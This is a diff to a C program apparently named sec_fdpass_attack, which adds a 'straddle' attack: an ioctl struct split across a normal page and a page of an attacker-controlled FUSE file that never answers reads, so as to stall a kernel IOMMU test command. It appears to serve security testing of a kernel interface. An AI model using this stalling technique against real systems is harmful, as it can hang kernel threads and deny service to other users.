@@ -6,6 +6,8 @@
  *	(under uiommufd-exec) IOMMU_TEST_CMD with the struct in a page of
  *	BAIT, the attacker's FUSE file whose READ is never answered: whoever
  *	reads the op waits for ever.
+ *   sec_fdpass_attack straddle NODE BAIT
+ *	the same with the op readable and the rest of the struct in BAIT.
  *   sec_fdpass_attack sendfd SOCKET FILE
  *	hands the fd-passing socket a descriptor of FILE (the attacker's FUSE
  *	file whose FLUSH is never answered) instead of a seccomp listener:
@@ -18,6 +20,7 @@
 #include <fcntl.h>
 #include <poll.h>
 #include <pthread.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -74,6 +77,35 @@ static int attack_stall(const char *node_path, const char *bait_path)
 	}
 	printf("started\n");
 	printf("returned %ld\n", (long)itest_ioctl(node, IOMMU_TEST_CMD, bait));
+	return 0;
+}
+
+/*
+ * The same with only the struct's first 8 bytes (size and op: a
+ * CREATE_ACCESS) in an ordinary page and the rest in the bait page: the
+ * op is readable, the struct is not.
+ */
+static int attack_straddle(const char *node_path, const char *bait_path)
+{
+	int fd = open_retry(bait_path, O_RDONLY), node = open(node_path, O_RDWR | O_CLOEXEC);
+	uint32_t *head;
+	char *area;
+
+	if (fd < 0 || node < 0) {
+		perror("open");
+		return 1;
+	}
+	area = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	if (area == MAP_FAILED ||
+	    mmap(area + 4096, 4096, PROT_READ, MAP_SHARED | MAP_FIXED, fd, 0) == MAP_FAILED) {
+		perror("mmap");
+		return 1;
+	}
+	head = (uint32_t *)(area + 4096 - 8);
+	head[0] = sizeof(struct iommu_test_cmd);
+	head[1] = IOMMU_TEST_OP_CREATE_ACCESS;
+	printf("started\n");
+	printf("returned %ld\n", (long)itest_ioctl(node, IOMMU_TEST_CMD, head));
 	return 0;
 }
 
@@ -141,6 +173,8 @@ int main(int argc, char **argv)
 	setvbuf(stdout, NULL, _IOLBF, 0);
 	if (argc == 4 && !strcmp(argv[1], "stall"))
 		return attack_stall(argv[2], argv[3]);
+	if (argc == 4 && !strcmp(argv[1], "straddle"))
+		return attack_straddle(argv[2], argv[3]);
 	if (argc == 4 && !strcmp(argv[1], "sendfd")) {
 		sock_path = argv[2];
 		return attack_sendfd(argv[3]);
